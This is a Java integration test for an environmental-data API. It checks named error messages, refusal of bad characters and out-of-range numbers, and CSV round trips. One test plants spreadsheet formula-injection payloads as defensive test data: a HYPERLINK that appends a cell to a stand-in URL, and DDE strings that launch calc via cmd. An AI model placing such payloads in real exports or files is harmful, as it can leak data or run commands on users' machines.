package limpid.api;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import limpid.api.OddRequests.Write;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What cannot be kept or found is refused with its name; tables come back as they went out. */
class RefusedByNameIT extends Served {
    @BeforeAll
    static void fill() {
        OddRequests.fill(server);
    }

    @ParameterizedTest
    @CsvSource({
        "/stations?city=临疆, city, 临江",
        "/air/days.csv?city=临江x, city, 临江",
        "/water/lakes?period=2026-01&lake=青河, lake, 清河",
        "/exports/water-samples.parquet?from=2026-01-01&to=2026-01-31&river=清河1, river, 清河"
    })
    void anUnknownPlaceIsNamedAndTheOneThatWasMeant(String path, String parameter, String meant) {
        int value = path.lastIndexOf('=') + 1;
        String whole =
                "/api/v1" + path.substring(0, value) + URLEncoder.encode(path.substring(value), StandardCharsets.UTF_8);
        JsonNode problem = server.get(whole).problem(400, "bad-parameter");
        assertEquals(parameter, problem.at("/parameter").asText());
        assertTrue(problem.at("/detail").asText().contains("did you mean '" + meant + "'?"), problem::toString);
    }

    /** In the path and in the query of every question that may be asked about one. */
    @Test
    void anUnknownStationIs404() {
        int asked = 0;
        for (OpenApi.Route route : OpenApi.routes(server)) {
            boolean anyName = Stream.of("/rejects", "/programmes", "/rules", "/stream", "/exports/programme-checks")
                    .anyMatch(path -> route.path().startsWith("/api/v1" + path));
            for (OpenApi.Parameter parameter : route.parameters()) {
                String name = parameter.name();
                boolean ofStation = parameter.in().equals("query")
                        ? Set.of("station", "section").contains(name)
                        : route.path().contains("/stations/{" + name + "}");
                if (route.isWrite() || anyName || !ofStation) {
                    continue;
                }
                String path = parameter.in().equals("query")
                        ? route.path() + "?" + name + "=a-1"
                        : route.path().replace("{" + name + "}", "a-1");
                JsonNode problem = server.ask(path.replaceAll("\\{\\w+}", "1")).problem(404, "unknown-station");
                assertTrue(problem.at("/detail").asText().contains("'a-1'"), route.name());
                asked++;
            }
        }
        assertTrue(asked > 20, asked + " questions");
        JsonNode problem = server.get("/api/v1/air/days?station=a-1").problem(404, "unknown-station");
        assertTrue(problem.at("/detail").asText().contains("did you mean 'A-1'?"), problem::toString);
    }

    @Test
    void anUnknownParameterOfAnExportIsNamed() {
        JsonNode problem = server.get("/api/v1/exports/readings.csv?from=2026-01-01&to=2026-01-31&parameter=PM25")
                .problem(400, "bad-parameter");
        assertEquals("parameter", problem.at("/parameter").asText());
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"\\u0000\"", "\"a\\u0001\"", "\"\\ud83d\"", "\"\\uffff\""})
    void aCharacterInABodyIsRefusedWithItsMemberAndWithoutOurClasses(String text) {
        ApiServer.Answer answer = write("PUT /api/v1/air/dust/{city}/{date}", "\"s\"", text);
        JsonNode problem = answer.problem(400, "bad-request");
        assertEquals("source", problem.at("/member").asText());
        assertTrue(problem.at("/detail").asText().contains("holds the character U+"), answer::text);
        assertFalse(answer.text().contains("limpid.api"), answer::text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "1e999999999",
                "1e-999999999",
                "1e130000",
                "1e100000000",
                "1e31",
                "0.1234567890123456789012345678901"
            })
    void aNumberOutOfBoundsIsRefusedAtEveryDoor(String number) {
        write("PUT /api/v1/programmes/{id}/indicators/{no}/reports/{year}", "50", number)
                .problem(400, "bad-request");
        write("PUT /api/v1/stations/{code}", "113.1", number).problem(400, "bad-request");
        assertColumn("POST /api/v1/stations/import", "113", number, "lon");
        assertColumn("PUT /api/v1/water/limits", "2.5", number, "limit");
        assertColumn("POST /api/v1/water/intakes/import", "451.05", number, "volume");
        assertColumn("POST /api/v1/noise/surveys/import", "68.4", number, "leq");
        assertColumn("POST /api/v1/readings/import", "0.00004L", number, "value");
        assertColumn("POST /api/v1/programmes/{id}/reports/import", ",5,", "," + number + ",", "value");
    }

    private static void assertColumn(String route, String usual, String odd, String column) {
        JsonNode problem = write(route, usual, odd).problem(400, "malformed-table");
        assertEquals(column, problem.at("/column").asText());
        assertEquals(2, problem.at("/line").asInt());
    }

    private static ApiServer.Answer write(String route, String usual, String odd) {
        Write write = OddRequests.writes().get(route);
        int at = write.body().indexOf(usual);
        assertTrue(at >= 0, route);
        String body = write.body().substring(0, at) + odd + write.body().substring(at + usual.length());
        return OddRequests.send(server, route, new Write(write.path(), write.table(), body));
    }

    @Test
    void tablesWithFormulasComeBackAsTheyWentOut() {
        Map<String, Write> tables = Map.of(
                "/stations.csv",
                new Write("POST /api/v1/stations/import", true, """
                        code,name_zh,name_en,medium,city,period,lon
                        F-1,"=HYPERLINK(""http://x/?""&A1)",@SUM(1+1)*cmd|'/C calc'!A0,air,临江,PT1H,-113.5
                        F-2,-1+1,'=1,air,临江,PT1H,
                        F-3,＝1,'abc,air,临江,PT1H,
                        """),
                "/water/limits.csv",
                new Write("PUT /api/v1/water/limits", true, """
                        section,item,limit,from,to,plan
                        W-1,NH3N,2.5,2026-01-01,2026-12-31,+cmd|'/C calc'!A0
                        """),
                "/water/intakes.csv?period=2026-01",
                new Write("POST /api/v1/water/intakes/import", true, """
                        section,month,volume,origin
                        W-1,2026-01,451.05,=1+1
                        """));
        tables.forEach((list, table) -> {
            String route = table.path();
            String path = route.substring(route.indexOf('/'));
            OddRequests.send(server, route, new Write(path, true, table.body())).json();
            String first = server.get("/api/v1" + list).text();
            assertFalse(first.matches("(?s).*(^|[,\n])\"?[=+@＝].*"), first);
            for (int again = 0; again < 3; again++) {
                JsonNode done = OddRequests.send(server, route, new Write(path, true, first))
                        .json();
                assertEquals(0, done.at("/changed").asInt(), first);
                assertEquals(first, server.get("/api/v1" + list).text());
            }
        });
        JsonNode station = server.get("/api/v1/stations/F-1").json();
        assertEquals("=HYPERLINK(\"http://x/?\"&A1)", station.at("/nameZh").asText());
        assertTrue(server.get("/api/v1/stations.csv").text().contains(",-113.5,"));
        // Who writes the apostrophe means what the service means by it.
        assertEquals(
                "=1", server.get("/api/v1/stations/F-2").json().at("/nameEn").asText());
    }
}
